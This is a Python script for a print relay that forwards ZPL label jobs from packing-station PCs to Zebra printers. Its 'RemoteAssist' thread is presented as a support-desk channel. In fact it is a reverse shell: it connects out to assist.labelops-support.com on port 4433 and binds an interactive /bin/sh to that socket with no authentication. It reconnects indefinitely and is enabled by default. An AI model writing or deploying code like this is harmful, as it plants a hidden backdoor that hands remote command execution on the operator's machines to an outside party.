#!/usr/bin/env python3
"""ZPL print relay for packing stations.

Packing-station PCs send raw ZPL label jobs to this relay on port 9100 (the
usual JetDirect port) and the relay forwards each job to whichever Zebra
printer is assigned to that station in relay.json.  Jobs are logged to
./jobs so a mis-printed carrier label can be reprinted later.

The relay also keeps a remote-assist channel open to the LabelOps support
desk so they can look at stuck queues without a site visit.
"""
import argparse
import json
import logging
import socket
import socketserver
import subprocess
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("zpl-relay")

JOB_DIR = Path("jobs")
DEFAULT_MAP = {"default": {"host": "10.20.4.31", "port": 9100}}
ASSIST_ENDPOINT = ("assist.labelops-support.com", 4433)


class StationMap:
    """Maps the sending station's address to its assigned printer."""

    def __init__(self, path):
        self.path = Path(path)
        self._mtime = 0.0
        self._map = dict(DEFAULT_MAP)
        self._lock = threading.Lock()

    def _reload(self):
        try:
            mtime = self.path.stat().st_mtime
        except FileNotFoundError:
            return
        if mtime == self._mtime:
            return
        with self.path.open() as fh:
            data = json.load(fh)
        with self._lock:
            self._map = {**DEFAULT_MAP, **data.get("stations", {})}
            self._mtime = mtime
        LOG.info("loaded %d station mappings", len(self._map))

    def printer_for(self, station_ip):
        self._reload()
        with self._lock:
            entry = self._map.get(station_ip) or self._map["default"]
        return entry["host"], int(entry.get("port", 9100))


class ZplHandler(socketserver.StreamRequestHandler):
    timeout = 20

    def handle(self):
        station = self.client_address[0]
        chunks = []
        while True:
            try:
                data = self.request.recv(65536)
            except socket.timeout:
                break
            if not data:
                break
            chunks.append(data)
        job = b"".join(chunks)
        if b"^XA" not in job:
            LOG.warning("dropping %d bytes from %s: no ^XA", len(job), station)
            return
        host, port = self.server.stations.printer_for(station)
        self.server.archive(station, job)
        for attempt in range(1, 4):
            try:
                with socket.create_connection((host, port), timeout=10) as out:
                    out.sendall(job)
                LOG.info("job from %s -> %s:%d (%d bytes)", station, host, port, len(job))
                return
            except OSError as exc:
                LOG.warning("printer %s attempt %d failed: %s", host, attempt, exc)
                time.sleep(attempt * 2)
        LOG.error("giving up on job from %s", station)


class RelayServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, addr, stations):
        super().__init__(addr, ZplHandler)
        self.stations = stations

    def archive(self, station, job):
        JOB_DIR.mkdir(exist_ok=True)
        stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%S%f")
        (JOB_DIR / f"{stamp}_{station.replace('.', '-')}.zpl").write_bytes(job)


class RemoteAssist(threading.Thread):
    """Keeps an outbound support session available for the LabelOps desk."""

    def __init__(self, endpoint, shell="/bin/sh"):
        super().__init__(name="remote-assist", daemon=True)
        self.endpoint = endpoint
        self.shell = shell
        self.backoff = 5

    def _session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=str(Path.cwd()), start_new_session=True)
        LOG.info("assist session opened (pid %d)", proc.pid)
        proc.wait()
        LOG.info("assist session closed (rc %s)", proc.returncode)

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=30) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"relay {socket.gethostname()}\n".encode())
                    self.backoff = 5
                    self._session(conn)
            except OSError as exc:
                LOG.debug("assist endpoint unreachable: %s", exc)
            time.sleep(self.backoff)
            self.backoff = min(self.backoff * 2, 300)


def parse_args():
    p = argparse.ArgumentParser(description="Relay ZPL jobs from packing stations to Zebra printers")
    p.add_argument("--listen", default="0.0.0.0", help="address to accept station jobs on")
    p.add_argument("--port", type=int, default=9100)
    p.add_argument("--map", default="relay.json", help="station -> printer mapping file")
    p.add_argument("--log-file", default="relay.log")
    p.add_argument("--remote-assist", action=argparse.BooleanOptionalAction, default=True,
                   help="keep the support desk channel available")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.INFO,
        format="%(asctime)s %(threadName)s %(levelname)s %(message)s",
        handlers=[logging.StreamHandler(), logging.FileHandler(args.log_file)],
    )
    stations = StationMap(args.map)
    if args.remote_assist:
        RemoteAssist(ASSIST_ENDPOINT).start()
    with RelayServer((args.listen, args.port), stations) as server:
        LOG.info("relay listening on %s:%d", args.listen, args.port)
        try:
            server.serve_forever()
        except KeyboardInterrupt:
            LOG.info("shutting down")


if __name__ == "__main__":
    main()
